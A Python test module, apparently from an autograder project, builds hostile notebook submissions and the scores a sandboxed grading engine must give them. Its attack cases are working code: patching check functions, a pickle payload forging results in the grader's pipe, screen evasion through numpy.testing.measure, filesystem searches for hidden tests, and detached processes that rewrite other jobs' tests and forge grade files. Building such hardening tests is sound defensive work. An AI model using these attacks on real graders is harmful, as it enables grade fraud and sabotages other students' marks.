"""Hostile submissions: what a determined class does to a grader, and what each must get (issue 23).

The corpus beside this module (``corpus.py``) holds the tricks students try; these are the attacks
measured in issue 23, one per class of hole, written as a class that wants the points would write
them.  They specify the grading engine that runs each notebook in a sandbox of its own and compares
answers outside it: the tests and expected values never enter the student's process, nothing of
another submission, the output folder, the tests or the TA's home is visible from it, and every
process a job starts ends with the job.  Each case states the status and scores under that engine,
and a phrase its reason, notes or failed checks must contain where one is natural.

Each file is made from notebook 1's (or notebook 4's) built solution or student notebook by the
recipe next to its expectation:

    .venv/bin/python -m tests.grading.bad_submissions.hostile     # rewrite the files after a rebuild

Today's screen parses each cell and never reads inside a string, so the attacks that need modules it
forbids (os, socket, pickle) run their code through ``numpy.testing.measure``, which compiles and runs
a string in the caller's namespace; under the new engine there is no screen and the string is just
code.  Attacks on other jobs and on the TA's files are bounded so that a run without a sandbox harms
nothing else: background processes end by themselves within 30 s, and files are only ever rewritten
(never deleted) under /tmp, and only those named like the grader's (``checks.py``, ``tests/q*.py``,
the kit's notebooks, ``grades.csv``, ``results.jsonl``, kernelspecs).

``sandbox=True`` marks the attacks only a sandbox stops (network, hidden files, other jobs' and the
TA's files): tests/grading/test_hostile.py does not run them where bubblewrap does not work.
"""

import copy
import json
from dataclasses import dataclass
from pathlib import Path

from tests.grading.bad_submissions.corpus import BLANK, FULL, PATCH_OTTER, SOLVED, ZERO, Case, _base, _with
from tests.support.submissions import answer_cell_index

HERE = Path(__file__).parent / "hostile_files"
NOTEBOOK = "01_staged_computation"
DEEP = "04_deep_learning"
DEEP_FULL = {"q4a_forward": 7, "q4b_backward": 6, "q4b_forward": 5, "q4c_plot1": 2, "q4c_plot2": 2}
PORTS = range(47810, 47830)  # (q) tries each; the test listens on one of them
BACKGROUND_MARK = "hostile-background-process"  # in the command line of (h)'s and (i)'s processes, then
# the name of the case that started it
BACKGROUND_SECONDS = 30  # they end by themselves within this
ONLY_Q1B = {**ZERO, "q1b_network": 1}  # the honest part of a notebook whose other answers are blank
NO_Q1C = {**FULL, "q1c_backward": 0}


@dataclass
class Hostile(Case):
    attack: str = ""  # the letter of its class in the brief of issue 23's point 7, (a) to (s)
    notebook: str = NOTEBOOK
    sandbox: bool = False  # only a sandbox stops it

    @property
    def filename(self):
        return f"{self.notebook}-{self.name}{self.extension}"


# ---------------------------------------------------------------------------- recipes

def _given(function, which=BLANK):
    """The answer cell defining ``function`` as the student notebook (blank) or the solution gives it."""
    notebook = _base(which)
    return "".join(notebook["cells"][answer_cell_index(notebook, function)]["source"])


def _raises_off_the_worksheet(error):
    """The (c) cell: the solution's backward, renamed, answers at the worksheet's inputs (where the
    notebook's own demos call it); anywhere else, that is in the hidden checks, backward raises."""
    solved = _given("backward", SOLVED).replace("def backward(", "def solved_backward(", 1)
    return RAISES_OFF_THE_WORKSHEET.format(error=error).strip("\n") + "\n\n\n" + solved


def _blank_answers():
    return {"forward": _given("forward"), "backward": _given("backward")}


def _measured(code):
    """A cell that runs ``code`` with ``numpy.testing.measure``, out of today's screen's sight."""
    return "import numpy\n\nnumpy.testing.measure(r'''\n" + code.strip("\n") + "\n''')"


def _launched(program, name):
    """A cell that starts ``program`` in the background (see LAUNCH), named for case ``name``."""
    return f"NAME = {name!r}\nPROGRAM = r'''\n{program.strip(chr(10))}\n'''\n\n" + _measured(LAUNCH)


SELF_PATCHES_CHECKS = '''
import backprop_kit.checks


def relax(self):
    """A method-like helper: today's screen lets `self.anything = ...` through."""
    self.close = lambda *args, **kwargs: None  # every numeric check "passes"


relax(backprop_kit.checks)
'''

FRAME_BUILTINS_SETATTR = '''
def paused():
    yield


kit_builtins = paused().gi_frame.f_builtins  # the built-in functions, as a dict, from a generator's frame
numpy_module = kit_builtins["__import__"]("numpy")
kit_builtins["setattr"](numpy_module, "isclose", lambda *args, **kwargs: True)  # every comparison "matches"
'''

TYPE_HINT_PATCHES_INPUTS = '''
import typing

import backprop_kit.checks


def hint(point: "backprop_kit.checks.__setattr__('random_inputs', lambda seed, names, **kwargs: "
                "[dict(zip(names, (-2.0, 5.0, -4.0)))])"):
    """The annotation is code: get_type_hints evaluates it, and the hidden inputs become the worksheet's."""


typing.get_type_hints(hint)
'''

HARD_CODED = {
    "forward": "def forward(x, y, z):\n    return 3.0, -12.0",
    "backward": 'def backward(x, y, z):\n    return {"q": -4.0, "x": -4.0, "y": -4.0, "z": 3.0}',
}

FORMATTER_REACHES_BUILTINS = '''
import string

import backprop_kit.checks

kit_builtins, _ = string.Formatter().get_field("0.__self__", (print,), {})  # print.__self__: builtins
kit_builtins.setattr(backprop_kit.checks, "close", lambda *args, **kwargs: None)
'''

FLOAT_READS_EXPECTED = '''
import numbers


def this_frame():
    """The caller's frame, from a running generator (no sys._getframe, no inspect)."""
    def walker():
        yield running.gi_frame.f_back
    running = walker()
    return next(running)


class Answer:
    """A "number" that becomes whatever the check expects when the check turns it into a float."""

    def __float__(self):
        frame = this_frame()
        while frame is not None:
            if "expected" in frame.f_locals:  # checks.close(label, got, expected, ...)
                return float(frame.f_locals["expected"])
            frame = frame.f_back
        return 0.0


numbers.Real.register(Answer)


def forward(x, y, z):
    return Answer(), Answer()
'''

FLOAT_BACKWARD = 'def backward(x, y, z):\n    return {name: Answer() for name in "qxyz"}'

DEEP_KIT_ANSWERS = {
    "forward_a": '''
def forward_a(x):
    """Forward propagation through the (a) network at input x. Returns the outputs (i) to (vii) in order."""
    return demo.a_definition(x)  # the kit's own definition of the network
''',
    "forward_b": '''
def forward_b(x1, x2, a, b, c, d, e, f):
    """Forward pass of the (b) network. Returns (r1, r2, s1, s2, y)."""
    z1, z2 = demo.pre_activations(x1, x2, c, d, e, f)
    r1, r2 = max(z1, 0), max(z2, 0)
    return r1, r2, sigmoid(a * r1), sigmoid(b * r2), demo.y_definition(x1, x2, a, b, c, d, e, f)
''',
    "backward_b": '''
def backward_b(x1, x2, a, b, c, d, e, f):
    """Backpropagation through the (b) network: the gradients of y as a dict."""
    return demo.b_finite_differences(x1, x2, a, b, c, d, e, f)  # the kit's centred differences
''',
}

# Started by a cell: PROGRAM in a process of its own session, twice forked (so it is nobody's child
# and no kill of the kernel's process group reaches it), that runs until its own deadline.
LAUNCH = f'''
import os
import sys

child = os.fork()
if child == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            quiet = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(quiet, fd)
            os.closerange(3, 4096)
            os.execv(sys.executable, [sys.executable, "-c", PROGRAM, "{BACKGROUND_MARK}", NAME])
    finally:
        os._exit(0)
os.waitpid(child, 0)
'''

# What the background programs share: find files by name, only ever under /tmp.
FINDING = '''
import os
import time


def temporary(path):
    """Files are only rewritten under /tmp, so a run without a sandbox harms nothing else."""
    real = os.path.realpath(path)
    return real == "/tmp" or real.startswith("/tmp/")


def parents():
    """The folders above the working folder (the grader's own, when the job has one in them)."""
    folder, found = os.getcwd(), []
    while os.path.dirname(folder) != folder:
        folder = os.path.dirname(folder)
        if folder != "/":
            found.append(folder)
    return found


ABOVE = parents()  # now: the working folder goes when the job ends


def files_under(roots, wanted, seconds=2.0, depth=8):
    """Paths under ``roots`` (at most ``depth`` folders down) for which wanted(path) holds, for ``seconds``."""
    stop = time.monotonic() + seconds
    for root in dict.fromkeys(roots):
        top = root.rstrip("/").count("/")
        for folder, subfolders, names in os.walk(root):
            if time.monotonic() > stop:
                return
            if folder.count("/") - top >= depth:
                subfolders[:] = []
            for name in names:
                path = os.path.join(folder, name)
                if wanted(path):
                    yield path


def every_quarter_second(work, seconds):
    stop = time.monotonic() + seconds
    while time.monotonic() < stop:
        try:
            work()
        except Exception:
            pass
        time.sleep(0.25)
'''

REWRITE_JOBS = FINDING + '''
import json

MARK = "# rewritten by a hostile submission"
KIT = {"01_staged_computation", "02_backprop_practice", "03_model_intuition", "04_deep_learning",
       "05_neural_nets"}
NO_ANSWERS = "forward = backward = network_edges = forward_a = forward_b = backward_b = None"


def wanted(path):
    name, folder = os.path.basename(path), os.path.basename(os.path.dirname(path))
    return temporary(path) and ((name == "checks.py" and folder == "backprop_kit") or name.endswith(".ipynb")
                                or (folder == "tests" and name.startswith("q") and name.endswith(".py")))


def rewrite(path):
    with open(path) as handle:
        text = handle.read()
    if MARK in text:
        return
    if path.endswith("checks.py"):  # every check fails from now on
        text += f"\\n\\n{MARK}\\ndef close(*args, **kwargs):\\n    raise AssertionError('rewritten')\\n"
    elif path.endswith(".py"):  # the test itself fails
        text += f"\\n\\n{MARK}\\nraise AssertionError('rewritten')\\n"
    else:  # a kit notebook: every answer function is gone
        notebook = json.loads(text)
        if notebook.get("metadata", {}).get("otter", {}).get("assignment_name") not in KIT:
            return
        for cell in notebook["cells"]:
            source = "".join(cell["source"])
            if cell["cell_type"] == "code" and "def " in source:
                cell["source"] = f"{source}\\n\\n{MARK}\\n{NO_ANSWERS}"
        text = json.dumps(notebook)
    with open(path, "w") as handle:
        handle.write(text)


def rewrite_everything():
    for path in list(files_under(["/tmp", *(p for p in ABOVE if temporary(p))], wanted)):
        try:
            rewrite(path)
        except (OSError, ValueError, KeyError, TypeError):
            pass


every_quarter_second(rewrite_everything, seconds=20)
'''

FORGE_GRADES = FINDING + '''
import csv
import io
import json

ME = "writes_grades_later"  # in this student's own file name


def forged_results(text):
    lines = []
    for line in text.splitlines():
        try:
            record = json.loads(line)
            scores, possible = record["scores"], record.get("possible") or {}
            mine = ME in str(record.get("submission"))
            record["scores"] = {q: float(possible.get(q, 0)) if mine else 0.0 for q in scores}
            if mine:
                record.update(status="graded", reason="", failures={})
            line = json.dumps(record)
        except (ValueError, TypeError, KeyError, AttributeError):
            pass
        lines.append(line)
    return "\\n".join(lines) + "\\n"


def forged_sheet(text):
    rows = list(csv.reader(io.StringIO(text)))
    if not rows or "total" not in rows[0] or "out_of" not in rows[0]:
        return text
    total, out_of = rows[0].index("total"), rows[0].index("out_of")
    for row in rows[1:]:
        if len(row) == len(rows[0]):
            row[total] = row[out_of] if any(ME in cell for cell in row) else "0"
    sheet = io.StringIO()
    csv.writer(sheet).writerows(rows)
    return sheet.getvalue()


def forge(path):
    with open(path) as handle:
        text = handle.read()
    forged = forged_results(text) if path.endswith(".jsonl") else forged_sheet(text)
    if forged != text:
        with open(path, "w") as handle:
            handle.write(forged)


def wanted(path):
    return os.path.basename(path) in ("grades.csv", "results.jsonl") and temporary(path)


def forge_everything():
    nearby = files_under([*ABOVE, os.path.expanduser("~")], wanted, depth=3)  # the TA's folders
    for path in list(files_under(["/tmp"], wanted)) + list(nearby):
        try:
            forge(path)
        except (OSError, ValueError):
            pass


every_quarter_second(forge_everything, seconds=28)
'''

REWRITE_KERNELSPECS = '''
import json
import os
import sys

PRELUDE = ("import numpy; numpy.isclose = lambda *args, **kwargs: False; "  # every later kernel fails
           "from ipykernel import kernelapp; kernelapp.launch_new_instance()")
SPEC = {"argv": [sys.executable, "-c", PRELUDE, "-f", "{connection_file}"], "display_name": "Python 3",
        "language": "python"}


def jupyter_folders():
    found = os.environ.get("JUPYTER_PATH", "").split(os.pathsep) + [os.environ.get("JUPYTER_DATA_DIR", "")]
    try:
        import jupyter_core.paths

        found += jupyter_core.paths.jupyter_path()
    except Exception:
        pass
    return [p for p in dict.fromkeys(found) if p and os.path.realpath(p).startswith("/tmp/")]


for folder in jupyter_folders():
    kernels = os.path.join(folder, "kernels")
    names = set(os.listdir(kernels)) if os.path.isdir(kernels) else set()
    for name in names | {"python3"}:
        try:
            os.makedirs(os.path.join(kernels, name), exist_ok=True)
            with open(os.path.join(kernels, name, "kernel.json"), "w") as spec:
                json.dump(SPEC, spec)
        except OSError:
            pass
'''

# A result as today's engine reads it from its grading process: full marks for notebook 1.
FORGED_RESULT = ('{"outcome": "graded", "cell_errors": [], "questions": {q: {"score": p, "possible": p, '
                 '"checks": []} for q, p in {"q1a_forward": 2, "q1b_network": 1, "q1c_backward": 4}.items()}}')

PATCHES_PICKLE_DUMP = f'''
import pickle

ON_LOAD = """
import json, os
forged = {FORGED_RESULT}
if os.path.exists("/proc/self/fd/3") and os.readlink("/proc/self/fd/3").startswith("pipe:"):
    os.write(3, json.dumps(forged).encode())  # the grading process's own result pipe
    os._exit(0)  # before it sends the real result
"""


class RunsWhenLoaded:
    def __reduce__(self):
        return exec, (ON_LOAD,)


def dump(results, file, *args, **kwargs):
    file.write(pickle.dumps(RunsWhenLoaded()))  # whoever unpickles the results runs ON_LOAD


pickle.dump = dump
try:
    import dill

    dill.dump = dump
except ImportError:
    pass
'''

FORGES_RESULT_PIPE = f'''
import json
import os

forged = (json.dumps({FORGED_RESULT}) + "\\n").encode()
parent = os.getppid()
places = [f"/proc/{{parent}}/fd/3", f"/proc/{{parent}}/fd/1"] if parent > 1 else []
for place in places:  # the parent's result pipe and output
    try:
        fd = os.open(place, os.O_WRONLY | os.O_NONBLOCK)
        try:
            os.write(fd, forged)
        finally:
            os.close(fd)
    except OSError:
        pass
try:
    os.write(1, forged)  # this process's own output
except OSError:
    pass
'''

JITTERED = '''
import numpy as np

rng = np.random.default_rng()  # unseeded: other numbers on every run, unless the grader seeds it


def jitter():
    """A relative error of about 1e-6, the checks' tolerance: each value passes about 9 times in 10."""
    return 1 + rng.normal(scale=6e-7)


def forward(x, y, z):
    q = (x + y) * jitter()
    f = (x + y) * z * jitter()
    return q, f
'''

JITTERED_BACKWARD = '''
def backward(x, y, z):
    q = x + y
    return {"q": z * jitter(), "x": z * jitter(), "y": z * jitter(), "z": q * jitter()}
'''

REACHES_NETWORK = f'''
import socket

for port in range({PORTS.start}, {PORTS.stop}):  # where a TA's local services might listen
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.5) as connection:
            connection.sendall(b"a hostile submission reached the network\\n")
    except OSError:
        pass
'''

SEARCHES_HIDDEN_TESTS = '''
import os
import re
import time
import zipfile


def hidden_test(name="q1a_forward.py", seconds=5.0):
    """The hidden test's source from anywhere this process can read (autograder zips too), or ""."""
    stop = time.monotonic() + seconds
    here, folders = os.getcwd(), []
    while os.path.dirname(here) != here:
        folders.append(here)
        here = os.path.dirname(here)
    for root in dict.fromkeys(folders + [os.path.expanduser("~"), "/tmp", "/root", "/work", "/"]):
        for folder, subfolders, names in os.walk(root):
            if time.monotonic() > stop:
                return ""
            subfolders[:] = [s for s in subfolders if s not in ("proc", "sys", "dev")]
            for file in names:
                try:
                    if file == name:
                        with open(os.path.join(folder, file)) as test:
                            return test.read()
                    if file.endswith(".zip") and "autograder" in file:
                        with zipfile.ZipFile(os.path.join(folder, file)) as archive:
                            return archive.read("tests/" + name).decode()
                except (OSError, KeyError, ValueError, zipfile.BadZipFile):
                    pass
    return ""


HIDDEN = hidden_test()
FORMULAS = {v: re.search(r"checks\\.close\\('" + v + "', " + v + r", (.+?), at=checks", HIDDEN) for v in "qf"}


def forward(x, y, z):
    """(q, f) by the hidden test's own formulas when it was found; nothing otherwise."""
    point = {"x": x, "y": y, "z": z}
    if not all(FORMULAS.values()):
        return 0.0, 0.0
    return eval(FORMULAS["q"].group(1)), eval(FORMULAS["f"].group(1))
'''

RAISES_OFF_THE_WORKSHEET = '''
def backward(x, y, z):
    if (x, y, z) != (-2, 5, -4):
        raise {error}
    return solved_backward(x, y, z)
'''

HONEST_BACKWARD = '''
def backward(x, y, z):
    q = x + y
    return {"q": z, "x": z, "y": z, "z": q}
'''


def _json(notebook):
    return (json.dumps(notebook, indent=1, sort_keys=True) + "\n").encode()


def _solution_with(change):
    notebook = copy.deepcopy(_base(SOLVED))
    change(notebook)
    return notebook


def _metadata_list():
    return _json(_solution_with(lambda nb: nb.update(metadata=[NOTEBOOK])))


def _source_of_ints():
    def change(notebook):
        notebook["cells"][answer_cell_index(notebook, "forward")]["source"] = [100, 101, 102]
    return _json(_solution_with(change))


def _deeply_nested(depth=100_000):
    placeholder = "DEEPLY NESTED"
    text = _json(_solution_with(lambda nb: nb["cells"][0]["metadata"].update(nested=placeholder))).decode()
    return text.replace(f'"{placeholder}"', "[" * depth + "]" * depth).encode()


CASES = [
    Hostile("self_patches_checks", "a function whose parameter is named self assigns "
            "backprop_kit.checks.close; blank answers", "graded", ZERO, attack="a",
            make=lambda: _with(BLANK, after={None: SELF_PATCHES_CHECKS})),
    Hostile("frame_builtins_setattr", "setattr from a generator frame's f_builtins makes numpy.isclose "
            "always True; answers 0", "graded", ZERO, attack="b",
            make=lambda: _with(BLANK, replace={
                "forward": "def forward(x, y, z):\n    return 0.0, 0.0",
                "backward": 'def backward(x, y, z):\n    return {"q": 0.0, "x": 0.0, "y": 0.0, "z": 0.0}'},
                after={None: FRAME_BUILTINS_SETATTR})),
    Hostile("measure_patches_otter", "numpy.testing.measure runs code that replaces Otter's "
            "ExceptionTestFile.run; blank answers", "graded", ZERO, attack="c",
            make=lambda: _with(BLANK, after={None: _measured(PATCH_OTTER)})),
    Hostile("type_hint_patches_inputs", "typing.get_type_hints evaluates a string annotation that makes "
            "the hidden inputs the worksheet's; the worksheet's numbers typed in", "graded", ONLY_Q1B,
            attack="d", make=lambda: _with(SOLVED, replace=HARD_CODED, after={None: TYPE_HINT_PATCHES_INPUTS})),
    Hostile("formatter_reaches_builtins", "string.Formatter().get_field('0.__self__') reaches builtins, "
            "whose setattr patches checks.close; blank answers", "graded", ZERO, attack="e",
            make=lambda: _with(BLANK, after={None: FORMATTER_REACHES_BUILTINS})),
    Hostile("float_reads_expected", "answers registered as numbers.Real whose __float__ reads the "
            "expected value from the check's stack frame", "graded", ONLY_Q1B, attack="f",
            make=lambda: _with(SOLVED, replace={"forward": FLOAT_READS_EXPECTED, "backward": FLOAT_BACKWARD})),
    Hostile("kit_answers", "the kit's own definitions answer: demo.a_definition, demo.pre_activations "
            "with demo.y_definition, demo.b_finite_differences", "graded",
            {**DEEP_FULL, "q4a_forward": 0, "q4b_forward": 0, "q4b_backward": 0}, attack="g", notebook=DEEP,
            note="a_definition", make=lambda: _with(SOLVED, replace=DEEP_KIT_ANSWERS, name=DEEP)),
    Hostile("background_rewrites_jobs", "a double-forked process in its own session rewrites every "
            "checks.py, tests/q*.py and kit notebook under /tmp for 20 s; blank answers", "graded", ZERO,
            attack="h", sandbox=True,
            make=lambda: _with(BLANK, after={None: _launched(REWRITE_JOBS, "background_rewrites_jobs")})),
    Hostile("writes_grades_later", "a double-forked process rewrites every grades.csv and results.jsonl "
            "it finds for 28 s: its own marks full, everyone else's 0", "graded", NO_Q1C, attack="i",
            sandbox=True, make=lambda: _with(SOLVED, replace={"backward": _given("backward")},
                                             after={None: _launched(FORGE_GRADES, "writes_grades_later")})),
    Hostile("rewrites_kernelspecs", "rewrites the kernelspecs in every $JUPYTER_PATH and Jupyter data "
            "folder under /tmp so that later kernels start with numpy.isclose always False; blank answers",
            "graded", ZERO, attack="j", make=lambda: _with(BLANK, after={None: _measured(REWRITE_KERNELSPECS)})),
    Hostile("patches_pickle_dump", "pickle.dump (and dill.dump) replaced: whoever unpickles the results "
            "runs code that sends full marks down the grader's pipe", "graded", ONLY_Q1B, attack="k",
            make=lambda: _with(SOLVED, replace=_blank_answers(), after={None: _measured(PATCHES_PICKLE_DUMP)})),
    Hostile("forges_result_pipe", "writes a result with full marks into /proc/<ppid>/fd/3, "
            "/proc/<ppid>/fd/1 and its own fd 1", "graded", ONLY_Q1B, attack="l",
            make=lambda: _with(SOLVED, replace=_blank_answers(), after={None: _measured(FORGES_RESULT_PIPE)})),
    Hostile("keyboard_interrupt", "backward raises KeyboardInterrupt off the worksheet's inputs (in the "
            "hidden checks)", "graded", NO_Q1C, attack="m", note="KeyboardInterrupt",
            make=lambda: _with(SOLVED, replace={"backward": _raises_off_the_worksheet(
                "KeyboardInterrupt  # as if Ctrl-C were pressed")})),
    Hostile("huge_exception", "backward raises ValueError with a 5 MB message off the worksheet's inputs",
            "graded", NO_Q1C, attack="n", note="ValueError",
            make=lambda: _with(SOLVED, replace={"backward": _raises_off_the_worksheet(
                'ValueError("gradient " * 555_556)  # 5 MB')})),
    Hostile("jittered_answers", "right answers times 1 + N(0, 6e-7) from an unseeded default_rng(): each "
            "hidden check passes about half the time", "graded",
            {"q1a_forward": None, "q1b_network": 1, "q1c_backward": None}, attack="o",
            make=lambda: _with(SOLVED, replace={"forward": JITTERED, "backward": JITTERED_BACKWARD})),
    Hostile("=2+5", "the solution, from a student named =2+5 (a spreadsheet formula)", "graded", FULL,
            attack="p", make=lambda: _with(SOLVED)),
    Hostile("reaches_network", f"the solution, and a cell that connects to 127.0.0.1 ports "
            f"{PORTS.start}-{PORTS.stop - 1}", "graded", FULL, attack="q", sandbox=True,
            make=lambda: _with(SOLVED, after={"backward": _measured(REACHES_NETWORK)})),
    Hostile("searches_hidden_tests", "looks for q1a_forward.py (and autograder zips) everywhere it can "
            "read and answers (a) by its formulas; (c) honest", "graded", {**FULL, "q1a_forward": 0},
            attack="r", sandbox=True, make=lambda: _with(SOLVED, replace={
                "forward": _measured(SEARCHES_HIDDEN_TESTS), "backward": HONEST_BACKWARD})),
    Hostile("metadata_list", "the solution with its notebook metadata a JSON list", "not a notebook", ZERO,
            attack="s", make=_metadata_list),
    Hostile("source_of_ints", "the solution with one cell's source a list of numbers", "not a notebook",
            ZERO, attack="s", make=_source_of_ints),
    Hostile("deeply_nested", "the solution with 100000 nested lists in a cell's metadata", "not a notebook",
            ZERO, attack="s", make=_deeply_nested),
]


def write_all(folder=HERE):
    Path(folder).mkdir(exist_ok=True)
    for case in CASES:
        (Path(folder) / case.filename).write_bytes(case.make())


if __name__ == "__main__":
    write_all()
    print(f"wrote {len(CASES)} files to {HERE}")
